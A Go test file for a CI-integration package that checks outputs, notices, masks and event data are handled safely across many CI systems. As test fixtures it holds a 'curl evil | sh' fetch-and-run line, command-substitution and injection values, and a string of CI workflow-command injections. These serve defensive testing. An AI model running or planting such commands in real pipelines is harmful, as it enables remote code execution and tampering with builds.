package ci_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hullwright/hullwright/internal/ci"
	"github.com/hullwright/hullwright/internal/errdefs"
)

// a job is a provider by name, with a directory and files of its own, and what
// it prints.
type job struct {
	ci.Provider
	dir            string
	environ        map[string]string
	stdout, stderr bytes.Buffer
}

func on(t *testing.T, name string, environ ...string) *job {
	t.Helper()
	j := &job{dir: t.TempDir(), environ: map[string]string{"PATH": os.Getenv("PATH")}}
	for _, key := range []string{"GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "BASH_ENV", "HULLWRIGHT_TEKTON_RESULTS", "AGENT_TEMPDIRECTORY"} {
		j.environ[key] = filepath.Join(j.dir, key)
	}
	for _, key := range []string{"HULLWRIGHT_TEKTON_RESULTS", "AGENT_TEMPDIRECTORY"} {
		if err := os.Mkdir(j.environ[key], 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if name == "buildkite" {
		j.environ["PATH"] = agent(t, j.dir) + ":" + j.environ["PATH"]
	}
	for i := 0; i < len(environ); i += 2 {
		j.environ[environ[i]] = environ[i+1]
	}
	p, err := ci.Detect(ci.Host{Environ: j.environ, Stdout: &j.stdout, Stderr: &j.stderr, Dir: j.dir}, name)
	if err != nil {
		t.Fatal(err)
	}
	j.Provider = p
	return j
}

// agent is a directory with a stand-in for Buildkite's agent, which writes what
// it is told to files in dir. The real one asks Buildkite's API.
func agent(t *testing.T, dir string) string {
	t.Helper()
	bin := filepath.Join(dir, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	script := "#!/bin/sh\nset -e\necho \"$@\" >> " + dir + "/agent.log\ncase $1 in meta-data) cat > \"" + dir + "/meta-data.$3\";; *) cat >> \"" + dir + "/agent.stdin\";; esac\n"
	if err := os.WriteFile(filepath.Join(bin, "buildkite-agent"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return bin
}

// sourced is what a shell has in its environment after reading a file.
func sourced(t *testing.T, file, variable string) string {
	t.Helper()
	out, err := exec.Command("env", "-i", "PATH="+os.Getenv("PATH"), "sh", "-euc", `. "$1"; printenv "$2"`, "sh", file, variable).Output()
	if err != nil {
		t.Fatalf("%s: %v", variable, err)
	}
	return strings.TrimSuffix(string(out), "\n")
}

var (
	vsoOutput = regexp.MustCompile(`^##vso\[task\.setvariable variable=([^;\]]*);isOutput=true\](.*)$`)
	tcOutput  = regexp.MustCompile(`^##teamcity\[setParameter name='env\.((?:[^|']|\|.)*)' value='((?:[^|'\[\]]|\|.)*)'\]$`)
	tcEscape  = regexp.MustCompile(`\|(0x[0-9A-F]{4}|.)`)
)

// received is what a later step has of output "x-y".
func (j *job) received(t *testing.T) string {
	t.Helper()
	switch j.Name() {
	case "forgejo", "gitea", "github":
		return runnerReads(t, read(t, j.environ["GITHUB_OUTPUT"]))["x-y"]
	case "circleci":
		return sourced(t, j.environ["BASH_ENV"], "x_y")
	case "woodpecker", "drone", "travis", "codebuild", "cloudbuild":
		return sourced(t, filepath.Join(j.dir, "hullwright.sh"), "x_y")
	case "buildkite":
		return read(t, filepath.Join(j.dir, "meta-data.hullwright:x-y"))
	case "jenkins":
		return ci.ParseProperties(read(t, filepath.Join(j.dir, "hullwright.properties")))["x-y"]
	case "tekton":
		return read(t, filepath.Join(j.environ["HULLWRIGHT_TEKTON_RESULTS"], "x-y"))
	case "azure":
		m := vsoOutput.FindStringSubmatch(strings.TrimSuffix(j.stderr.String(), "\n"))
		if m == nil || m[1] != "x_y" {
			t.Fatalf("printed %q", j.stderr.String())
		}
		return strings.NewReplacer("%0D", "\r", "%0A", "\n", "%AZP25", "%").Replace(m[2])
	case "teamcity":
		m := tcOutput.FindStringSubmatch(strings.TrimSuffix(j.stdout.String(), "\n"))
		if m == nil || m[1] != "x_y" {
			t.Fatalf("printed %q", j.stdout.String())
		}
		return unescapeTeamCity(m[2])
	case "gitlab", "bitbucket":
		return strings.TrimSuffix(strings.TrimPrefix(read(t, filepath.Join(j.dir, "hullwright.env")), "x_y="), "\n")
	}
	return strings.TrimSuffix(strings.ReplaceAll(j.stdout.String(), "x-y=", ""), "\n") // git: for people
}

func unescapeTeamCity(s string) string {
	var units []byte
	s = tcEscape.ReplaceAllStringFunc(s, func(m string) string {
		switch {
		case m == "|n":
			return "\n"
		case m == "|r":
			return "\r"
		case len(m) > 2:
			return `\u` + m[3:]
		}
		return m[1:]
	})
	raw, _ := json.Marshal(s)
	units = bytes.ReplaceAll(raw, []byte(`\\u`), []byte(`\u`))
	if json.Unmarshal(units, &s) != nil {
		return "not to be read: " + s
	}
	return s
}

// TestOutputsOnEverySystem is the contract of Output: a value arrives as it
// was given, or an Inexpressible says why not.
func TestOutputsOnEverySystem(t *testing.T) {
	for _, name := range ci.Names() {
		for title, value := range awkward {
			if name == "git" && (title == "unicode" || title == "commands" || strings.ContainsRune(value, '\r')) {
				continue // printed for people, cleaned: see TestPrintedOutput
			}
			j := on(t, name)
			err := j.Output("x-y", value)
			var inexpressible *ci.Inexpressible
			switch {
			case errors.As(err, &inexpressible):
				if name != "gitlab" && name != "bitbucket" && name != "buildkite" {
					t.Errorf("%s, %s: %v", name, title, err)
				}
			case err != nil:
				t.Errorf("%s, %s: %v", name, title, err)
			default:
				got := j.received(t)
				if name == "gitlab" || name == "bitbucket" {
					got = strings.ReplaceAll(got, ",", "\n")
				}
				if got != value {
					t.Errorf("%s, %s: got %q, want %q", name, title, got, value)
				}
			}
		}
	}
}

func TestOutputNamesOnEverySystem(t *testing.T) {
	for _, name := range ci.Names() {
		for _, bad := range []string{"", "a=b", "a<<EOF", "a b", "a\nb", "1a", "a;b", "a]b", "../a", "a'b"} {
			j := on(t, name)
			if err := j.Output(bad, "v"); err == nil {
				t.Errorf("%s: output %q is taken", name, bad)
			}
			if j.stdout.Len()+j.stderr.Len() > 0 {
				t.Errorf("%s: output %q printed %q %q", name, bad, j.stdout.String(), j.stderr.String())
			}
		}
	}
	for _, name := range []string{"circleci", "drone", "teamcity"} { // they become variables of the environment
		if err := on(t, name).Output("PATH", "/evil"); err == nil {
			t.Errorf("%s: PATH is taken", name)
		}
	}
}

// TestOutputsTwice: the later value is the one that counts.
func TestOutputsTwice(t *testing.T) {
	for _, name := range ci.Names() {
		if name == "azure" || name == "teamcity" || name == "git" {
			continue // printed in turn
		}
		j := on(t, name)
		for _, value := range []string{"old", "new"} {
			if err := j.Output("x-y", value); err != nil {
				t.Fatal(name, err)
			}
		}
		if got := j.received(t); got != "new" {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestDotenvBesideOnEverySystem(t *testing.T) {
	for _, name := range ci.Names() {
		j := on(t, name)
		p, err := ci.Detect(ci.Host{Environ: j.environ, Stdout: io.Discard, Stderr: io.Discard, Dir: j.dir, DotenvFile: "my.env"}, name)
		if err != nil {
			t.Fatal(err)
		}
		if err := p.Output("digest", "sha256:ab"); err != nil {
			t.Fatal(name, err)
		}
		if got := read(t, filepath.Join(j.dir, "my.env")); got != "digest=sha256:ab\n" {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestBitbucketVariables(t *testing.T) {
	path := filepath.Join(t.TempDir(), "variables")
	j := on(t, "bitbucket", "BITBUCKET_PIPELINES_VARIABLES_PATH", path)
	if err := os.WriteFile(path, []byte("OTHER=1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"tag-names", "digest"} {
		if err := j.Output(name, "a\nb"); err != nil {
			t.Fatal(err)
		}
	}
	var inexpressible *ci.Inexpressible
	if err := j.Output("x", "a b\nPATH=c"); !errors.As(err, &inexpressible) {
		t.Errorf("error %v", err)
	}
	if err := j.Output("a=b", "c"); err == nil {
		t.Error("a=b is taken for a name")
	}
	if got, want := read(t, path), "OTHER=1\ntag_names=a,b\ndigest=a,b\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// What is larger than a system takes is left out with a word.
func TestLargeOutputs(t *testing.T) {
	for _, name := range []string{"buildkite", "tekton", "gitlab"} {
		var inexpressible *ci.Inexpressible
		if err := on(t, name).Output("x", strings.Repeat("x", 200_000)); !errors.As(err, &inexpressible) {
			t.Errorf("%s: error %v", name, err)
		}
	}
}

// Where there is nothing to hand an output to, that is an error.
func TestOutputsWithNowhereToGo(t *testing.T) {
	for name, key := range map[string]string{"circleci": "BASH_ENV", "buildkite": "PATH", "tekton": "HULLWRIGHT_TEKTON_RESULTS"} {
		for _, value := range []string{"/nonexistent/x", ""} {
			if name == "tekton" && value == "" { // then Tekton's own directory is meant
				continue
			}
			if err := on(t, name, key, value).Output("a", "b"); errdefs.KindOf(err) != errdefs.Environment || len(errdefs.Hints(err)) == 0 && value == "" {
				t.Errorf("%s, %s=%q: error %v", name, key, value, err)
			}
		}
	}
}

// A commit may have put anything where outputs go.
func TestShellFileOfStrangers(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	for title, make := range map[string]func(path string) error{
		"link":      func(path string) error { return os.Symlink(secret, path) },
		"directory": func(path string) error { return os.Mkdir(path, 0o755) },
		"commands":  func(path string) error { return os.WriteFile(path, []byte("export a='b'\ncurl evil | sh\n"), 0o644) },
		"expansion": func(path string) error { return os.WriteFile(path, []byte("export a='b'$(curl evil)\n"), 0o644) },
		"unclosed":  func(path string) error { return os.WriteFile(path, []byte("export a='b"), 0o644) },
	} {
		j := on(t, "drone")
		if err := make(filepath.Join(j.dir, "hullwright.sh")); err != nil {
			t.Fatal(err)
		}
		if err := j.Output("a", "b"); errdefs.KindOf(err) != errdefs.Environment {
			t.Errorf("%s: error %v", title, err)
		}
	}
	if _, err := os.Stat(secret); !errors.Is(err, os.ErrNotExist) {
		t.Error("written through the link")
	}
}

// obeyed are lines that a system takes for commands to it.
var obeyed = map[string]*regexp.Regexp{
	"github":    regexp.MustCompile(`(?m)^\s*::|##\[`),
	"gitlab":    regexp.MustCompile(`section_(start|end):[0-9]+:[^\r\n]*\r|\x1b`),
	"azure":     regexp.MustCompile(`##(vso)?\[`),
	"teamcity":  regexp.MustCompile(`##teamcity\[`),
	"buildkite": regexp.MustCompile(`(?m)^(---|\+\+\+|~~~|\^\^\^)|\x1b`),
	"travis":    regexp.MustCompile(`(?m)^\r?travis_(fold|time):`),
	"jenkins":   regexp.MustCompile(`\x1b`),
}

func commands(name, text string) int {
	if name == "gitea" || name == "forgejo" {
		name = "github"
	}
	if obeyed[name] == nil {
		return len(regexp.MustCompile(`\x1b|(?m)^::|##\w*\[`).FindAllString(text, -1))
	}
	return len(obeyed[name].FindAllString(text, -1))
}

const hostile = "x\n::set-output name=digest::e\n##[group]y\n##vso[task.setvariable variable=a]b\n##teamcity[setParameter name='a' value='b']\n" +
	"\r::add-mask::e\n\x1b[0Ksection_end:1:x\r\x1b[0K\n+++ open\n--- fold\n~~~ dim\n^^^ +++\ntravis_fold:start:x\r\x1b[0K\n\x1b]1338;url=x\x07\n']\n"

// TestForeignTextIsInert on every system: nothing in a build's log is obeyed,
// however it is cut into writes.
func TestForeignTextIsInert(t *testing.T) {
	for _, name := range ci.Names() {
		for _, size := range []int{1, 7, len(hostile)} {
			var out bytes.Buffer
			w, err := ci.Foreign(on(t, name).Provider, &out)
			if err != nil {
				t.Fatal(err)
			}
			for text := hostile; text != ""; {
				n := min(size, len(text))
				io.WriteString(w, text[:n])
				text = text[n:]
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			want := 0
			if strings.HasPrefix(out.String(), "::stop-commands::") {
				want = 2
			}
			if n := commands(name, out.String()); n != want {
				t.Errorf("%s by %d: %d commands in %q", name, size, n, out.String())
			}
			if !strings.Contains(out.String(), "open") || !strings.Contains(out.String(), "fold") {
				t.Errorf("%s: text is lost: %q", name, out.String())
			}
		}
	}
}

// TestNoticesAndGroupsAreInert: a hostile title or message gives as many
// commands as a plain one.
func TestNoticesAndGroupsAreInert(t *testing.T) {
	for _, name := range ci.Names() {
		say := func(text string) int {
			j := on(t, name)
			if n, ok := j.Provider.(ci.Noticer); ok {
				for _, level := range []ci.Level{ci.Info, ci.Warning, ci.Failure} {
					n.Notice(ci.Notice{Level: level, Message: text, Title: text, File: text, Line: 3})
				}
			}
			if g, ok := j.Provider.(ci.Grouper); ok {
				g.StartGroup(&j.stderr, text)
				g.EndGroup(&j.stderr)
			}
			// A line ends where a command's escapes do.
			return commands(name, j.stdout.String()+j.stderr.String())
		}
		if plain, got := say("x"), say(hostile); got != plain && name != "github" && name != "gitea" && name != "forgejo" && name != "azure" {
			t.Errorf("%s: %d commands, of a plain text %d", name, got, plain)
		}
	}
	// GitHub and Azure obey a command at the start of its line only where they
	// have found one there: what follows on the line is its text.
	for _, name := range []string{"github", "azure"} {
		j := on(t, name)
		j.Provider.(ci.Noticer).Notice(ci.Notice{Level: ci.Warning, Message: hostile, Title: hostile, File: hostile})
		if lines := strings.Split(strings.TrimSuffix(j.stderr.String(), "\n"), "\n"); len(lines) != 1 {
			t.Errorf("%s: %q", name, lines)
		}
	}
}

func TestNoticesAsTheSystemReadsThem(t *testing.T) {
	notice := ci.Notice{Level: ci.Warning, Message: "a%\nb]", Title: "t", File: "x;y]", Line: 3}
	for name, want := range map[string]string{
		"azure":    "##vso[task.logissue type=warning;sourcepath=x%3By%5D;linenumber=3]t: a%AZP25%0Ab]\n",
		"teamcity": "##teamcity[message text='t: x;y|]:3: a%|nb|]' status='WARNING']\n",
	} {
		j := on(t, name)
		j.Provider.(ci.Noticer).Notice(notice)
		if got := j.stdout.String() + j.stderr.String(); got != want {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
	j := on(t, "buildkite")
	j.Provider.(ci.Noticer).Notice(ci.Notice{Level: ci.Failure, Message: "<b>a\n+++ b"})
	if got, want := j.stderr.String(), "^^^ +++\nerror: <b>a\n +++ b\n"; got != want {
		t.Errorf("buildkite: got %q, want %q", got, want)
	}
	if got, want := read(t, filepath.Join(j.dir, "agent.log")), "annotate --style error --context hullwright-error --append\n"; got != want {
		t.Errorf("buildkite: asked %q", got)
	}
	if got, want := read(t, filepath.Join(j.dir, "agent.stdin")), "&lt;b\\>a\n\\+\\+\\+ b\n"; got != want {
		t.Errorf("buildkite: annotated %q, want %q", got, want)
	}
}

func TestGroupsAsTheSystemReadsThem(t *testing.T) {
	for name, want := range map[string]string{
		"azure":     "##[group]Build it\n##[endgroup]\n",
		"buildkite": "--- Build it\n",
		"teamcity":  "##teamcity[blockOpened name='Build it']\n##teamcity[blockClosed name='Build it']\n",
		"travis":    "travis_fold:start:hullwright_1\r\x1b[0KBuild it\ntravis_fold:end:hullwright_1\r\x1b[0K\n",
		"gitea":     "::group::Build it\n::endgroup::\n",
	} {
		j := on(t, name)
		g := j.Provider.(ci.Grouper)
		g.StartGroup(&j.stderr, "Build it")
		g.EndGroup(&j.stderr)
		if got := j.stdout.String() + j.stderr.String(); got != want {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
}

// TestMasks: the system is told of the secret whole, on whatever stream hides
// it from then on.
func TestMasks(t *testing.T) {
	for name, want := range map[string]string{
		"github": "::add-mask::hunter22\n::add-mask::line two\n::add-mask::hunter22-long\n***\n",
		"azure":  "##vso[task.setsecret]hunter22\n##vso[task.setsecret]line two\n##vso[task.setsecret]hunter22-long\n***\n",
		"drone":  "***\n",
	} {
		var log bytes.Buffer
		r := ci.NewRedactor(&log)
		p, err := ci.Detect(ci.Host{Environ: map[string]string{}, Stdout: io.Discard, Stderr: r}, name)
		if err != nil {
			t.Fatal(err)
		}
		p.Mask("hunter22\nline two\nab")
		p.Mask("hunter22-long")
		p.Mask("")
		fmt.Fprintln(r, "hunter22-long")
		if r.Flush(); log.String() != want {
			t.Errorf("%s: got %q, want %q", name, log.String(), want)
		}
	}
	j := on(t, "buildkite")
	j.Mask("hunter22\nline two")
	if got := read(t, filepath.Join(j.dir, "agent.log")) + read(t, filepath.Join(j.dir, "agent.stdin")); got != "redactor add\nredactor add\nhunter22line two" {
		t.Errorf("buildkite: %q", got)
	}
}

func TestSummaries(t *testing.T) {
	j := on(t, "azure")
	if err := j.Provider.(ci.Summarizer).Summary("# Title\n"); err != nil {
		t.Fatal(err)
	}
	path := strings.TrimSpace(strings.TrimPrefix(j.stderr.String(), "##vso[task.uploadsummary]"))
	if got := read(t, path); got != "# Title\n" || filepath.Dir(path) != j.environ["AGENT_TEMPDIRECTORY"] {
		t.Errorf("azure: %s holds %q", path, got)
	}
	j = on(t, "buildkite")
	if err := j.Provider.(ci.Summarizer).Summary("# Title\n"); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(j.dir, "agent.stdin")); got != "# Title\n" {
		t.Errorf("buildkite: %q", got)
	}
	var inexpressible *ci.Inexpressible
	for name, key := range map[string]string{"azure": "AGENT_TEMPDIRECTORY", "buildkite": "PATH"} {
		if err := on(t, name, key, "").Provider.(ci.Summarizer).Summary("x"); !errors.As(err, &inexpressible) {
			t.Errorf("%s: error %v", name, err)
		}
	}
}

// TestGiven: on every system what a person gives beats what the system tells.
func TestGiven(t *testing.T) {
	given := map[string]string{}
	for i, g := range ci.Givens() {
		given[g.Name] = "v" + strconv.Itoa(i)
	}
	for key, value := range map[string]string{"SHA": sha, "HEAD_SHA": strings.Repeat("e", 40), "REF": "refs/heads/no", "BRANCH": "no", "GIT_TAG": "no", "PR": "7",
		"FORK": "false", "EVENT": "merge_group", "COMMIT_TIME": "2026-05-06T07:08:09Z", "SOURCE_BRANCH": "from", "TARGET_BRANCH": "to",
		"REPOSITORY_URL": "https://u:s3cr3t@h/octo/app.git", "REPOSITORY": "octo/app", "JOB_URL": "https://h/1"} {
		if given["HULLWRIGHT_"+key] == "" {
			t.Fatalf("no HULLWRIGHT_%s", key)
		}
		given["HULLWRIGHT_"+key] = value
	}
	for _, name := range ci.Names() {
		j := on(t, name)
		for k, v := range given {
			j.environ[k] = v
		}
		e, err := j.Event(context.Background())
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		got := fmt.Sprint(e.Kind, e.Name, e.Ref, e.SHA, e.HeadSHA, *e.Request, e.CommitTime.Year(), e.Repository, e.JobURL)
		want := fmt.Sprint(ci.MergeQueue, "merge_group", "refs/pull/7/merge", sha, strings.Repeat("e", 40), ci.ChangeRequest{Number: 7, Source: "from", Target: "to"}, 2026,
			ci.Repository{Slug: "octo/app", Name: "app", URL: "https://h/octo/app", DefaultBranch: given["HULLWRIGHT_DEFAULT_BRANCH"]}, "https://h/1")
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

func TestGivenBadly(t *testing.T) {
	for _, name := range ci.Names() {
		for key, value := range map[string]string{"HULLWRIGHT_SHA": "HEAD", "HULLWRIGHT_HEAD_SHA": "x", "HULLWRIGHT_REF": "main", "HULLWRIGHT_PR": "42; x", "HULLWRIGHT_FORK": "no", "HULLWRIGHT_COMMIT_TIME": "soon"} {
			environ := []string{"HULLWRIGHT_SHA", sha, key, value}
			if _, err := on(t, name, environ...).Event(context.Background()); errdefs.KindOf(err) != errdefs.BadInput || !strings.Contains(err.Error(), key) {
				t.Errorf("%s, %s=%s: error %v", name, key, value, err)
			}
		}
	}
}

// TestBadNumbersAndCommits of the systems themselves.
func TestBadNumbersAndCommits(t *testing.T) {
	for name, variables := range map[string][2]string{
		"jenkins": {"CHANGE_ID", "GIT_COMMIT"}, "circleci": {"CIRCLE_PR_NUMBER", "CIRCLE_SHA1"}, "buildkite": {"BUILDKITE_PULL_REQUEST", "BUILDKITE_COMMIT"},
		"azure": {"SYSTEM_PULLREQUEST_PULLREQUESTID", "BUILD_SOURCEVERSION"}, "bitbucket": {"BITBUCKET_PR_ID", "BITBUCKET_COMMIT"}, "drone": {"DRONE_PULL_REQUEST", "DRONE_COMMIT_SHA"},
		"woodpecker": {"CI_COMMIT_PULL_REQUEST", "CI_COMMIT_SHA"}, "travis": {"TRAVIS_PULL_REQUEST", "TRAVIS_COMMIT"}, "cloudbuild": {"_PR_NUMBER", "COMMIT_SHA"}, "teamcity": {"", "BUILD_VCS_NUMBER"},
	} {
		for _, bad := range []string{"42; x", "-1", "1e9", "0", "2147483648"} {
			if variables[0] == "" {
				break
			}
			if _, err := on(t, name, variables[0], bad).Event(context.Background()); errdefs.KindOf(err) != errdefs.BadInput || !strings.Contains(err.Error(), variables[0]) {
				t.Errorf("%s, %s=%s: error %v", name, variables[0], bad, err)
			}
		}
		for _, bad := range []string{"$(id)", "main", "--output=x", sha + "\nx", strings.ToUpper(sha)} {
			if _, err := on(t, name, variables[1], bad).Event(context.Background()); errdefs.KindOf(err) != errdefs.BadInput || bad != strings.ToUpper(sha) && !strings.Contains(err.Error(), variables[1]) {
				t.Errorf("%s, %s=%q: error %v", name, variables[1], bad, err)
			}
		}
	}
}

func TestProperties(t *testing.T) {
	got := ci.ParseProperties("# c\n! c\na=1\n b : 2\nc\\ d 3\ne=x\\\n   y\\\\\nf=\\u00e9\\ud83d\\ude80\\n\ng\nh==\nuri=https\\://h/a\\=b\n")
	want := map[string]string{"a": "1", "b": "2", "c d": "3", "e": `xy\`, "f": "é🚀\n", "g": "", "h": "=", "uri": "https://h/a=b"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func FuzzProperties(f *testing.F) {
	for _, v := range awkward {
		f.Add(v)
	}
	f.Add("a\\\nb=\\u00")
	f.Fuzz(func(t *testing.T, value string) {
		ci.ParseProperties(value)
		text := "k=" + ci.EscapeProperties(value) + "\nl=1\n"
		if want, got := strings.ToValidUTF8(value, "\ufffd"), ci.ParseProperties(text); len(got) != 2 || strings.ToValidUTF8(got["k"], "\ufffd") != want && !strings.Contains(want, "\ufffd") {
			t.Errorf("%q gives %q, read as %q", value, text, got)
		}
	})
}

func FuzzForeign(f *testing.F) {
	f.Add(hostile, 3)
	f.Add("-", 0)
	f.Add("travis_fol", 4)
	f.Fuzz(func(t *testing.T, text string, at int) {
		for _, name := range []string{"buildkite", "travis", "azure"} {
			p, err := ci.Detect(ci.Host{}, name)
			if err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			w, _ := ci.Foreign(p, &out)
			at = max(0, min(at, len(text)))
			io.WriteString(w, text[:at])
			io.WriteString(w, text[at:])
			w.Close()
			if commands(name, out.String()) != 0 {
				t.Errorf("%s: %q gives %q", name, text, out.String())
			}
			if got, want := strings.ReplaceAll(out.String(), " ", ""), strings.ReplaceAll(ci.Clean(text), " ", ""); got != want {
				t.Errorf("%s: %q gives %q, want %q", name, text, got, want)
			}
		}
	})
}

// TestErrorsAreInert on every system: an error that quotes a Dockerfile and the
// output of a step is no command, although no fence is around it.
func TestErrorsAreInert(t *testing.T) {
	excerpt := "process did not complete\nDockerfile:2\n--------------------\n   1 | FROM x\n--------------------\n" + hostile
	for _, name := range ci.Names() {
		got := ci.Inert(on(t, name).Provider, excerpt)
		if n := commands(name, got); n != 0 {
			t.Errorf("%s: %d commands in %q", name, n, got)
		}
		if !strings.Contains(got, "--------------------\n   1 | FROM x\n") || !strings.Contains(got, "open") {
			t.Errorf("%s: text is lost: %q", name, got)
		}
	}
	if got, want := ci.Inert(nil, "a\x1b[2J\n::error::b"), "a\n: :error::b"; got != want {
		t.Errorf("where no system is found: %q, want %q", got, want)
	}
}
